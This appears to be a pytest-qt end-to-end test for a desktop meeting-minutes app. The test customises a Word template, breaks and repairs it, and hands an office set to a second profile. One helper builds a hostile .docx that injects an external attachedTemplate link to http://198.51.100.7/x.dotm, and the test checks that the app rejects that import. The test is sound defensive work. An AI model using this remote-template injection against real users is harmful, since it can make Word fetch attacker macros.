"""An office makes the shipped minutes its own, breaks and mends them in Word, and hands its set to a sister office."""

from __future__ import annotations

import io
import zipfile
from dataclasses import replace
from pathlib import Path

import docx
from PySide6.QtCore import Qt
from PySide6.QtWidgets import QPushButton
from pytestqt.qtbot import QtBot

from rakor_desktop import app
from rakor_desktop.archive import Archive
from rakor_desktop.catalog import Catalog
from rakor_desktop.desk.documents import document_bytes
from rakor_desktop.desk.office_set import read_set
from rakor_desktop.desk.set_import import bring_in
from rakor_desktop.printing import Typesetter
from rakor_desktop.settings import Settings
from rakor_desktop.ui.main_window import MainWindow
from rakor_desktop.ui.template_shelf import TemplateDialog
from rakor_desktop.ui.template_shelf.asking import NameDialog


def button(dialog: TemplateDialog, text: str) -> QPushButton:
    return next(
        b for b in dialog.findChildren(QPushButton) if b.text().replace("&", "") == text and b.isVisibleTo(dialog)
    )


def opened_shelf(qtbot: QtBot, window: MainWindow) -> TemplateDialog:
    keys = Qt.KeyboardModifier.ControlModifier | Qt.KeyboardModifier.ShiftModifier
    qtbot.keyClick(window, Qt.Key.Key_T, keys)
    dialog = window.findChildren(TemplateDialog)[-1]
    dialog.activateWindow()
    qtbot.waitUntil(lambda: dialog.isActiveWindow() and dialog.checkup is not None)
    return dialog


def add_paragraph(file: Path, text: str) -> None:
    document = docx.Document(str(file))
    document.add_paragraph(text)
    document.save(str(file))


def drop_last_paragraph(file: Path) -> None:
    document = docx.Document(str(file))
    last = document.paragraphs[-1]._p
    last.getparent().remove(last)
    document.save(str(file))


def test_an_office_makes_the_minutes_its_own_and_hands_them_on(
    qtbot: QtBot, window: MainWindow, tmp_path: Path
) -> None:
    parts = window.parts
    parts.__dict__["typesetter"] = Typesetter(lambda: ())
    app.put_samples(parts)
    entry = next(e for e in parts.archive.recent(10) if "pasaman" in e.id)
    assert window.furniture.meetings.open(entry.id)
    dialog = opened_shelf(qtbot, window)
    assert dialog.current is not None
    assert dialog.current.key == "notula/polri"

    qtbot.mouseClick(button(dialog, "Salin…"), Qt.MouseButton.LeftButton)
    asked = dialog.findChildren(NameDialog)[-1]
    qtbot.keyClicks(asked.line, "Notulen Pasbar")
    qtbot.keyClick(asked.line, Qt.Key.Key_Return)
    own = dialog.current
    assert own is not None
    assert own.title == "Notulen Pasbar"
    file = own.folder / "template-a4.docx"
    add_paragraph(file, "Arsip: {{ tempat|kapital }}, {{ tanggal|bulan_romawi }}")
    dialog.watch.look()
    qtbot.waitUntil(lambda: dialog.checkup is not None and dialog.checkup.usable)
    qtbot.waitUntil(dialog.details.use.isEnabled)
    qtbot.mouseClick(dialog.details.use, Qt.MouseButton.LeftButton)
    assert window.furniture.exporting.template_in_use("notula") == "notulen-pasbar"

    window.furniture.exporting.make("notula", ".docx")
    qtbot.waitUntil(lambda: any(Path(tmp_path / "dokumen").rglob("Notula*.docx")), timeout=10_000)
    qtbot.waitUntil(lambda: not parts.jobs.busy)
    (made,) = Path(tmp_path / "dokumen").rglob("Notula*.docx")
    assert docx.Document(str(made)).paragraphs[-1].text == "Arsip: LAPANGAN INDOOR POLRES PASAMAN BARAT, VIII"

    add_paragraph(file, "{{ notuliss }}")
    dialog.watch.look()
    qtbot.waitUntil(lambda: dialog.details.faults.count() == 1, timeout=8000)
    assert "Isi dokumen, paragraf" in dialog.details.faults.item(0).text()
    assert "notula tidak dapat dibuat sampai diperbaiki" in dialog.details.standing.text()
    window.furniture.exporting.make("notula", ".docx")
    qtbot.waitUntil(window.bar.isVisible, timeout=8000)
    assert "Templat Notulen Pasbar: Isi dokumen, paragraf" in window.bar.text
    assert [link.accessibleName() for link in window.bar.links()] == ["Coba lagi", "Lihat templat"]
    drop_last_paragraph(file)
    dialog.watch.look()
    qtbot.waitUntil(lambda: dialog.checkup is not None and dialog.checkup.usable, timeout=8000)

    hostile = tmp_path / "kiriman.docx"
    hostile.write_bytes(with_remote_template(file.read_bytes()))
    dialog.bring_in(hostile)
    qtbot.waitUntil(dialog.bar.isVisible)
    assert "“kiriman.docx” tidak diimpor" in dialog.bar.text
    assert "template luar" in dialog.bar.text
    assert [one.name for one in parts.catalog.templates if one.own] == ["notulen-pasbar"]

    target = tmp_path / "pasbar.rakorset"
    dialog.sets.export(target)
    qtbot.waitUntil(lambda: "Set kantor disimpan" in dialog.toast.text)
    qtbot.keyClick(dialog, Qt.Key.Key_Escape)
    there = tmp_path / "sana"
    catalog, settings = Catalog.load(user=there), Settings(there)
    archive = Archive.open(there / "arsip.db")
    bring_in(read_set(target.read_bytes()), {}, catalog=catalog, archive=archive, settings=settings)
    office = parts.desk.office
    assert archive.office(office.id) == office
    bundle = replace(parts.desk.bundle, office=archive.office(office.id))
    name = settings.template(office.id, "notula")
    here_made = document_bytes(bundle, "notula", ".docx", catalog=parts.catalog, template="notulen-pasbar")
    assert document_bytes(bundle, "notula", ".docx", catalog=catalog, template=name) == here_made
    archive.close()


def with_remote_template(data: bytes) -> bytes:
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    link = f'<Relationship Id="rIdX" Type="{kind}" Target="http://198.51.100.7/x.dotm" TargetMode="External"/>'
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            content = old.read(info)
            if info.filename == "word/_rels/document.xml.rels":
                content = content.replace(b"</Relationships>", link.encode() + b"</Relationships>")
            new.writestr(info.filename, content)
    return stream.getvalue()
